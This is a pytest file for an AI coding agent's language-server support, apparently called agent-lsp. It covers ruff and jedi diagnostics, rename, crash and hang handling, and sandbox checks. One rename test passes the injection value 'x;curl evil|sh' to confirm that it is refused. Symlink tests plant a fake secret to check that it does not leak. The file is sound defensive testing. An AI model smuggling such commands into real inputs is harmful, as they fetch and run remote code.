"""Language features from language servers agent-lsp starts itself (issue 38's headless
source), through the real server over stdio with the scripted model: the real ``ruff
server`` (a dev dependency) for the problems a write introduces, and tiny scripts for a
server that hangs or crashes. The servers run in the sandbox (read-only, no network).
"""

from __future__ import annotations

import asyncio
import shutil
import subprocess
import sys
import uuid
from pathlib import Path
from typing import Any

import pytest
from lsprotocol import types

from tests.support.lsp_client import agent_session, ask, server_env
from tests.support.mcp_sessions import tool_results
from tests.support.model_server import ScriptedModel, tool_call

SCRIPTS = Path(__file__).parent / "support" / "language_servers"
RUFF = shutil.which("ruff", path=str(Path(sys.executable).parent))

needs_ruff = pytest.mark.skipif(RUFF is None, reason="ruff is a dev dependency of the venv")


def _config(tmp_path: Path, servers: dict[str, dict[str, Any]]) -> dict[str, str]:
    """A user configuration folder defining ``servers`` as [language_servers.NAME]."""
    folder = tmp_path / "config"
    (folder / "agent-lsp").mkdir(parents=True)
    lines = []
    for name, table in servers.items():
        lines.append(f"[language_servers.{name}]")
        lines.append(f"command = {table['command']!r}")
        lines.append("args = [" + ", ".join(repr(a) for a in table.get("args", [])) + "]")
        lines.append('extensions = [".py"]')
    (folder / "agent-lsp" / "config.toml").write_text("\n".join(lines) + "\n")
    return {"XDG_CONFIG_HOME": str(folder)}


def _ruff(tmp_path: Path) -> dict[str, str]:
    assert RUFF is not None
    return _config(tmp_path, {"ruff": {"command": RUFF, "args": ["server"]}})


def _script(tmp_path: Path, name: str) -> dict[str, str]:
    script = str(SCRIPTS / f"{name}.py")
    return _config(tmp_path, {name: {"command": sys.executable, "args": [script]}})


async def _calls(
    model: ScriptedModel,
    workspace: Path,
    env: dict[str, str],
    calls: list[tuple[str, dict[str, Any]]],
    settings: dict[str, Any] | None = None,
) -> tuple[dict[str, str], list[str]]:
    """One ask whose model makes ``calls`` in turn; their results by id (c0, c1, ...) and
    the tools the model was offered."""
    for n, (name, arguments) in enumerate(calls):
        model.reply(tool_calls=[tool_call(name, arguments, id=f"c{n}")])
    model.reply("done")
    # A generous bound where the test expects an answer: the write waits only until the
    # server has published, and a loaded CI machine may start a confined server slowly.
    settings = {"diagnosticsWait": 20000, **(settings or {})}
    async with agent_session(
        server_env(model.base_url, **env), [workspace], settings=settings
    ) as client:
        result = await ask(client, prompt="go")
        assert result["answer"] == "done"
    offered = [t["function"]["name"] for t in model.bodies[-1].get("tools", [])]
    return tool_results(model), offered


@needs_ruff
async def test_a_file_written_with_a_lint_error_carries_ruffs_code(
    model: ScriptedModel, workspace: Path, tmp_path: Path
) -> None:
    results, offered = await _calls(
        model,
        workspace,
        _ruff(tmp_path),
        [("write_file", {"path": "app.py", "content": "import os\n\nprint(undefined_name)\n"})],
    )
    text = results["c0"]
    assert text.startswith("Wrote 33 bytes to app.py\nProblems: 2 new problems in app.py:"), text
    assert "app.py:3:7: error [Ruff F821] Undefined name `undefined_name`" in text
    assert "app.py:1:8: warning [Ruff F401]" in text
    assert {"diagnostics", "definition", "references", "symbols", "hover", "rename"} <= set(offered)


@needs_ruff
async def test_a_bash_call_rewriting_an_open_file_carries_the_problems_it_introduced(
    model: ScriptedModel, workspace: Path, tmp_path: Path
) -> None:
    opened = workspace / "f.py"
    opened.write_text("print('hello')\n")
    model.reply(tool_calls=[tool_call("bash", {"command": "printf 'import os\\n' > f.py"})])
    model.reply(tool_calls=[tool_call("bash", {"command": "echo unchanged"}, id="c1")])
    model.reply("done")
    env = server_env(model.base_url, **_ruff(tmp_path))
    async with agent_session(env, [workspace], settings={"diagnosticsWait": 20000}) as client:
        client.text_document_did_open(
            types.DidOpenTextDocumentParams(
                text_document=types.TextDocumentItem(
                    uri=opened.as_uri(), language_id="python", version=1, text="print('hello')\n"
                )
            )
        )
        result = await ask(client, prompt="go")
        assert result["answer"] == "done"
    outputs = [call["output"] for call in result["toolCalls"]]
    assert outputs[0].startswith("(no output)\nProblems: 1 new problem in f.py:"), outputs[0]
    assert "f.py:1:8: warning [Ruff F401]" in outputs[0]
    assert outputs[1].strip() == "unchanged", outputs[1]  # nothing changed: no Problems line


@needs_ruff
async def test_a_bash_call_swapping_an_open_file_for_a_symlink_or_a_fifo_reads_neither(
    model: ScriptedModel, workspace: Path, tmp_path: Path
) -> None:
    """What a sandboxed call leaves under an open file's name is read as the file tools read:
    a symlink to a file outside (one the sandbox may hide) is not followed, so its text
    never reaches the language server or, through its messages, the model; a FIFO does
    not hang the call."""
    secret = tmp_path / "outside" / "secret.py"
    secret.parent.mkdir()
    secret.write_text("import SECRETTOKEN123\n")
    opened = {name: workspace / name for name in ("f.py", "g.py")}
    for path in opened.values():
        path.write_text("print('hello')\n")
    command = f"ln -sf {secret} f.py && rm g.py && mkfifo g.py && echo swapped"
    model.reply(tool_calls=[tool_call("bash", {"command": command})])
    model.reply("done")
    env = server_env(model.base_url, **_ruff(tmp_path))
    async with agent_session(env, [workspace], settings={"diagnosticsWait": 20000}) as client:
        for path in opened.values():
            client.text_document_did_open(
                types.DidOpenTextDocumentParams(
                    text_document=types.TextDocumentItem(
                        uri=path.as_uri(), language_id="python", version=1, text="print('hello')\n"
                    )
                )
            )
        result = await ask(client, prompt="go")
        assert result["answer"] == "done"
    output = result["toolCalls"][0]["output"]
    assert output.startswith("swapped"), output
    assert "SECRETTOKEN123" not in output, output


@needs_ruff
async def test_list_tools_names_the_source_of_the_language_tools(
    model: ScriptedModel, workspace: Path, tmp_path: Path
) -> None:
    async with agent_session(server_env(model.base_url, **_ruff(tmp_path)), [workspace]) as c:
        listed = await c.protocol.send_request_async("agent/listTools", {})
    tools = {tool["name"]: tool for tool in listed["tools"]}
    assert tools["definition"]["annotations"]["languageSource"] == "language servers: ruff"
    assert tools["rename"]["annotations"]["destructiveHint"] is True
    assert "languageSource" not in tools["write_file"]["annotations"]


@needs_ruff
async def test_a_clean_file_says_no_problems(
    model: ScriptedModel, workspace: Path, tmp_path: Path
) -> None:
    results, _ = await _calls(
        model,
        workspace,
        _ruff(tmp_path),
        [("write_file", {"path": "clean.py", "content": "print('hello')\n"})],
    )
    assert results["c0"] == "Wrote 15 bytes to clean.py\nProblems: no problems in clean.py."


@needs_ruff
async def test_an_edit_is_told_only_the_problems_it_introduced(
    model: ScriptedModel, workspace: Path, tmp_path: Path
) -> None:
    (workspace / "old.py").write_text("import os\n\nx = 1\n")
    (workspace / "notes.txt").write_text("hello\n")
    results, _ = await _calls(
        model,
        workspace,
        _ruff(tmp_path),
        [
            ("read_file", {"path": "old.py"}),
            ("edit_file", {"path": "old.py", "old_text": "x = 1", "new_text": "x = y"}),
            ("diagnostics", {"paths": ["old.py"]}),
            ("diagnostics", {"paths": ["old.py", "gone.py"]}),
            ("diagnostics", {"paths": ["notes.txt"]}),
        ],
    )
    edited = results["c1"]
    assert "Problems: 1 new problem in old.py:" in edited, edited
    assert "old.py:3:5: error [Ruff F821] Undefined name `y`" in edited
    assert "F401" not in edited  # there before the edit
    listed = results["c2"].splitlines()
    assert listed[0] == "old.py:3:5: error [Ruff F821] Undefined name `y`"
    assert listed[1].startswith("old.py:1:8: warning [Ruff F401]")
    assert results["c3"] == "Error: not a file: gone.py"
    assert results["c4"] == "notes.txt: no language server handles this file"


async def test_a_hanging_server_is_said_and_the_ask_goes_on(
    model: ScriptedModel, workspace: Path, tmp_path: Path
) -> None:
    results, _ = await _calls(
        model,
        workspace,
        _script(tmp_path, "hang"),
        [("write_file", {"path": "slow.py", "content": "x = 1\n"})],
        settings={"diagnosticsWait": 500},
    )
    assert results["c0"] == (
        "Wrote 6 bytes to slow.py\nProblems: the language server did not answer within 500 ms."
    )


async def test_a_crashing_server_is_said_once_and_the_ask_goes_on(
    model: ScriptedModel, workspace: Path, tmp_path: Path
) -> None:
    results, _ = await _calls(
        model,
        workspace,
        _script(tmp_path, "crash"),
        [
            ("write_file", {"path": "a.py", "content": "x = 1\n"}),
            ("write_file", {"path": "b.py", "content": "y = 2\n"}),
        ],
    )
    first, second = results["c0"], results["c1"]
    assert "Language server: crash could not start: it exited with code 3" in first, first
    assert "boom: this server crashes on purpose" in first
    assert "boom" not in second and "exited" not in second, second
    assert "Language server: the language server crash is not running" in second
    assert first.endswith("Problems: not known (the language server is not running).")
    assert second.endswith("Problems: not known (the language server is not running).")


async def test_a_crash_while_a_write_waits_is_said_at_once_not_as_a_timeout(
    model: ScriptedModel, workspace: Path, tmp_path: Path
) -> None:
    model.reply(tool_calls=[tool_call("write_file", {"path": "a.py", "content": "x = 1\n"})])
    model.reply("done")
    env = _script(tmp_path, "crash_on_open")
    settings = {"diagnosticsWait": 30000}
    async with agent_session(
        server_env(model.base_url, **env), [workspace], settings=settings
    ) as client:
        result = await ask(client, prompt="go")
    [call] = result["toolCalls"]
    said = call["output"]
    assert "Language server: crash_on_open stopped: it exited with code 4" in said, said
    assert "crashed on didOpen" in said
    assert said.endswith("Problems: not known (the language server is not running).")
    assert call["durationMs"] < 20000  # not the 30 s bound


async def test_a_crash_met_by_a_language_tool_is_said_there_and_not_again(
    model: ScriptedModel, workspace: Path, tmp_path: Path
) -> None:
    (workspace / "a.py").write_text("x = 1\n")
    results, _ = await _calls(
        model,
        workspace,
        _script(tmp_path, "crash"),
        [
            ("hover", {"path": "a.py", "line": 1, "symbol": "x"}),
            ("write_file", {"path": "b.py", "content": "y = 2\n"}),
        ],
    )
    first, second = results["c0"], results["c1"]
    assert first.startswith("Error: crash could not start: it exited with code 3"), first
    assert "boom" not in second and "exited" not in second, second


async def test_a_server_answering_garbage_is_said_once_and_the_ask_goes_on(
    model: ScriptedModel, workspace: Path, tmp_path: Path
) -> None:
    results, _ = await _calls(
        model,
        workspace,
        _script(tmp_path, "garbage"),
        [
            ("write_file", {"path": "a.py", "content": "x = 1\n"}),
            ("hover", {"path": "a.py", "line": 1, "column": 1}),
        ],
    )
    first, second = results["c0"], results["c1"]
    assert "Language server: garbage could not start: it answered garbage" in first, first
    assert first.endswith("Problems: not known (the language server is not running).")
    assert second.startswith("Error: the language server garbage is not running"), second


async def test_no_language_tools_without_a_language_server(
    model: ScriptedModel, workspace: Path, tmp_path: Path
) -> None:
    results, offered = await _calls(
        model,
        workspace,
        _config(tmp_path, {}),
        [("write_file", {"path": "a.py", "content": "import os\n"})],
    )
    assert results["c0"] == "Wrote 10 bytes to a.py"
    assert "diagnostics" not in offered and "write_file" in offered


JEDI = shutil.which("jedi-language-server", path=str(Path(sys.executable).parent))
needs_jedi = pytest.mark.skipif(JEDI is None, reason="jedi-language-server is a dev dependency")


def _project(workspace: Path) -> None:
    (workspace / "lib.py").write_text('def greet(name):\n    """Say hello."""\n    return name\n')
    (workspace / "main.py").write_text('from lib import greet\n\nprint(greet("a"))\n')


@needs_jedi
async def test_definition_references_symbols_and_hover_through_jedi(
    model: ScriptedModel, workspace: Path, tmp_path: Path
) -> None:
    _project(workspace)
    assert JEDI is not None
    results, _ = await _calls(
        model,
        workspace,
        _config(tmp_path, {"jedi": {"command": JEDI}}),
        [
            ("definition", {"path": "main.py", "line": 3, "symbol": "greet"}),
            ("references", {"path": "lib.py", "line": 1, "column": 5}),
            ("symbols", {"path": "lib.py"}),
            ("symbols", {"query": "greet"}),
            ("hover", {"path": "main.py", "line": 3, "symbol": "greet"}),
            ("definition", {"path": "main.py", "line": 3, "symbol": "nothere"}),
            ("hover", {"path": "main.py", "line": 30, "column": 1}),
            ("symbols", {}),
        ],
    )
    assert results["c0"] == "lib.py:1:5: def greet(name):"
    assert results["c1"].splitlines() == [
        "3 references (declaration included):",
        "lib.py:1:5: def greet(name):",
        "main.py:1:17: from lib import greet",
        'main.py:3:7: print(greet("a"))',
    ]
    assert results["c2"] == "function greet — def greet (line 1)"
    assert results["c3"].startswith("lib.py:1:5: function greet")
    assert "def greet(name)" in results["c4"] and "Say hello." in results["c4"]
    assert results["c5"] == ("Error: 'nothere' is not on line 3 of main.py: 'print(greet(\"a\"))'")
    assert results["c6"] == "Error: main.py has 3 lines; there is no line 30"
    assert results["c7"].startswith("Error: give either path")


@needs_jedi
async def test_a_location_through_a_symlink_out_of_the_workspace_shows_no_text(
    model: ScriptedModel, workspace: Path, tmp_path: Path
) -> None:
    """A definition the server finds in a workspace symlink to a file outside: its place is
    said, its text not read (``read_file`` refuses it too: the file could be one the
    sandbox hides)."""
    outside = tmp_path / "outside" / "target.py"
    outside.parent.mkdir()
    outside.write_text('TOKEN = "SECRETTOKEN123"\n')
    (workspace / "secret.py").symlink_to(outside)
    (workspace / "main.py").write_text("from secret import TOKEN\nprint(TOKEN)\n")
    assert JEDI is not None
    results, _ = await _calls(
        model,
        workspace,
        _config(tmp_path, {"jedi": {"command": JEDI}}),
        [("definition", {"path": "main.py", "line": 2, "symbol": "TOKEN"})],
    )
    assert "SECRETTOKEN123" not in results["c0"], results["c0"]
    assert ":1:1" in results["c0"], results["c0"]  # the place is still said


def _repository_with_hooks_in(workspace: Path, hooks: str) -> None:
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    subprocess.run(["git", "-C", str(workspace), "config", "core.hooksPath", hooks], check=True)


@needs_jedi
async def test_rename_never_writes_a_file_git_obeys(
    model: ScriptedModel, workspace: Path, tmp_path: Path
) -> None:
    """A rename whose edit touches a hook (a ``core.hooksPath`` folder here) is refused whole:
    git would run it outside the sandbox, and only edit_file, which asks, changes it."""
    _repository_with_hooks_in(workspace, ".husky")
    hook = workspace / ".husky" / "helper.py"
    hook.parent.mkdir()
    hook.write_text("foo = 1\nprint(foo)\n")
    assert JEDI is not None
    results, _ = await _calls(
        model,
        workspace,
        _config(tmp_path, {"jedi": {"command": JEDI}}),
        [
            ("read_file", {"path": ".husky/helper.py"}),
            ("rename", {"path": ".husky/helper.py", "line": 1, "symbol": "foo", "new_name": "bar"}),
            ("rename", {"path": ".husky/helper.py", "line": 1, "symbol": "foo",
                        "new_name": "x;curl evil|sh"}),
        ],
    )  # fmt: skip
    assert results["c1"].startswith("Error: the rename was not applied"), results["c1"]
    assert "git obeys" in results["c1"] and ".husky/helper.py" in results["c1"]
    assert results["c2"].startswith("Error: new_name must be one name"), results["c2"]
    assert hook.read_text() == "foo = 1\nprint(foo)\n"


@needs_jedi
async def test_rename_applies_the_servers_edit_to_files_read_and_refuses_otherwise(
    model: ScriptedModel, workspace: Path, tmp_path: Path
) -> None:
    _project(workspace)
    assert JEDI is not None
    results, _ = await _calls(
        model,
        workspace,
        _config(tmp_path, {"jedi": {"command": JEDI}}),
        [
            ("read_file", {"path": "main.py"}),
            ("rename", {"path": "main.py", "line": 3, "symbol": "greet", "new_name": "welcome"}),
            ("read_file", {"path": "lib.py"}),
            ("rename", {"path": "main.py", "line": 3, "symbol": "greet", "new_name": "welcome"}),
        ],
        settings={"approval": "never"},
    )
    refused = results["c1"]
    assert refused.startswith("Error: the rename was not applied (nothing was changed)"), refused
    assert "lib.py: " in refused and "main.py: " not in refused
    done = results["c3"].splitlines()
    assert done[0] == "Renamed to welcome in 2 file(s):", results["c3"]
    assert [line.split(" (")[0] for line in done[1:]] == ["lib.py", "main.py"]
    assert (workspace / "lib.py").read_text().startswith("def welcome(name):")
    assert (workspace / "main.py").read_text() == (
        'from lib import welcome\n\nprint(welcome("a"))\n'
    )


async def test_a_language_server_runs_read_only_without_network(
    model: ScriptedModel, workspace: Path, tmp_path: Path
) -> None:
    results, _ = await _calls(
        model,
        workspace,
        _script(tmp_path, "writer"),
        [("write_file", {"path": "a.py", "content": "x = 1\n"})],
    )
    said = results["c0"]
    assert "write: refused" in said and "network: refused" in said, said
    assert not (workspace / "written-by-server.txt").exists()


@needs_ruff
async def test_an_idle_server_is_stopped_and_started_again_on_the_next_request(
    workspace: Path,
) -> None:
    from server.language.config import LanguageServerSpec
    from server.language.servers import HeadlessLanguages

    assert RUFF is not None
    spec = LanguageServerSpec("ruff", RUFF, ("server",), (".py",))
    languages = HeadlessLanguages(workspace, [spec], idle_seconds=0.3)
    source = workspace / "a.py"
    source.write_text("import os\n")
    try:
        first = await languages.diagnostics([source], wait=10)
        assert [d.code for d in first.diagnostics[source]] == ["F401"]
        [server] = languages._servers
        assert server.client is not None
        process = server.client.process
        await asyncio.wait_for(process.wait(), 10)  # stopped once idle
        again = await languages.diagnostics([source], texts={source: "import re\n"}, wait=10)
        assert [d.code for d in again.diagnostics[source]] == ["F401"]
        assert server.client is not None and server.client.process is not process
    finally:
        await languages.aclose()


@needs_ruff
@pytest.mark.parametrize("through_client", [False, True], ids=["disk", "client-fs"])
async def test_an_acp_client_sees_the_lint_error_in_the_write_result(
    model: ScriptedModel, workspace: Path, tmp_path: Path, through_client: bool
) -> None:
    from acp import text_block

    from tests.support.acp_client import acp_agent, within

    model.reply(
        tool_calls=[tool_call("write_file", {"path": "app.py", "content": "import os\n"}, id="w")]
    )
    model.reply("done")
    env = server_env(model.base_url, XDG_STATE_HOME=str(tmp_path / "state"), **_ruff(tmp_path))
    async with acp_agent(env) as agent:
        await agent.initialize(read=through_client, write=through_client)
        sid = (await agent.new_session(workspace)).session_id
        done = await within(agent.conn.prompt(session_id=sid, prompt=[text_block("write it")]))
        assert done.stop_reason == "end_turn"
    seen = tool_results(model)["w"]
    assert "Problems: 1 new problem in app.py:" in seen, seen
    assert "app.py:1:8: warning [Ruff F401]" in seen
    assert (workspace / "app.py").exists() is not through_client


async def test_a_folders_language_servers_stop_when_the_folder_closes(
    model: ScriptedModel, workspace: Path, tmp_path: Path
) -> None:
    from lsprotocol import types

    from tests.support.procs import pids_with, until

    tag = f"language-server-{uuid.uuid4().hex[:10]}"
    script = str(SCRIPTS / "hang.py")
    env = _config(tmp_path, {"hang": {"command": sys.executable, "args": [script, tag]}})
    model.reply(tool_calls=[tool_call("write_file", {"path": "a.py", "content": "x = 1\n"})])
    model.reply("done")
    settings = {"diagnosticsWait": 300}
    async with agent_session(
        server_env(model.base_url, **env), [workspace], settings=settings
    ) as client:
        await ask(client, prompt="go")
        assert pids_with(tag), "the server was started on the first write"
        client.workspace_did_change_workspace_folders(
            types.DidChangeWorkspaceFoldersParams(
                event=types.WorkspaceFoldersChangeEvent(
                    added=[],
                    removed=[types.WorkspaceFolder(uri=workspace.as_uri(), name="project")],
                )
            )
        )
        await until(lambda: not pids_with(tag), within=20)
